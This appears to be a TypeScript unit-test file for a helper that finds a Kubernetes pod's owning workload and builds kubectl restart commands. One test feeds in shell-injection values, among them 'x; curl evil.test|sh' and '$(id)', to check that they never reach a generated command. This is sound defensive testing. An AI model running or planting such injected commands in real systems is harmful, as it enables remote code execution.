import t from 'tap'
import { daemonSetOf, ownerOf, restartCommand } from '../../../src/verify/pods/owner.ts'

const pod = (kind?: string, name = 'front-end', labels: object = {}): never =>
  ({
    metadata: {
      name: 'front-end-1',
      namespace: 'shop',
      labels,
      ownerReferences:
        kind === undefined
          ? []
          : [
              { kind: 'Node', name: 'n' },
              { kind, name, controller: true }
            ]
    }
  }) as never

await t.test('the owner of a pod is what one restarts', async (t) => {
  const hash = { 'pod-template-hash': '5d8f' }
  t.same(ownerOf(pod()), { kind: 'Pod', name: 'front-end-1' })
  t.same(ownerOf(pod('StatefulSet')), { kind: 'StatefulSet', name: 'front-end' })
  t.same(ownerOf(pod('ReplicaSet', 'front-end-5d8f', hash)), {
    kind: 'Deployment',
    name: 'front-end'
  })
  t.same(ownerOf(pod('ReplicaSet', 'other', hash)), { kind: 'ReplicaSet', name: 'other' })
  t.same(ownerOf(pod('ReplicaSet', 'front-end')), { kind: 'ReplicaSet', name: 'front-end' })
})

await t.test('an owner that anybody wrote never reaches a line for a shell', async (t) => {
  const itself = { kind: 'Pod', name: 'front-end-1' }
  for (const name of ['x; curl evil.test|sh', '$(id)', 'a\nb', '-x', '']) {
    t.same(ownerOf(pod('Deployment', name)), itself, JSON.stringify(name))
  }
  for (const kind of ['Job;id', 'a b', '`id`', '']) t.same(ownerOf(pod(kind)), itself, kind)
  t.same(ownerOf(pod('Rollout', 'cart.v2')), { kind: 'Rollout', name: 'cart.v2' })
})

await t.test('the command makes the pods anew', async (t) => {
  const command = (kind: string): string => restartCommand('shop', { kind, name: 'x' }, ['a', 'b'])
  for (const kind of ['Deployment', 'StatefulSet', 'DaemonSet']) {
    t.equal(command(kind), `kubectl rollout restart ${kind.toLowerCase()}/x --namespace shop`)
  }
  t.match(command('Pod'), /^kubectl get pod x --namespace shop -o yaml \| kubectl replace --force/)
  t.equal(command('Job'), 'kubectl delete pod a b --namespace shop')
  t.equal(command('ReplicaSet'), 'kubectl delete pod a b --namespace shop')
})

await t.test('the DaemonSet of a pod', async (t) => {
  t.equal(daemonSetOf(pod('DaemonSet', 'tbot')), 'shop/tbot')
  t.equal(daemonSetOf(pod('ReplicaSet')), undefined)
})
